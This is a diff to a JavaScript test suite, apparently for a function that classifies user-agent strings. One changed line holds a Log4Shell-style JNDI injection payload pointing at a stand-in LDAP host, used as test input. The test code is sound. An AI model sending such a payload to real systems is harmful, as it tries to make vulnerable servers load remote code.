@@ -41,7 +41,7 @@ describe('agents', () => {
     'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) Safari/534.34 SomeAgent/1.0 (ops+agent@example.com)',
     'Mozilla/5.0 (compatible; NobodyKnows/0.4; +; )',
     'looksystems.net',
-    '${jndi:ldap://x.example/a}',
+    `\${jndi:ldap://x.example/a}`,
   ])('%s declares itself', (agent) => expect(kind(agent)).toBe('declared'));
 
   it.each([
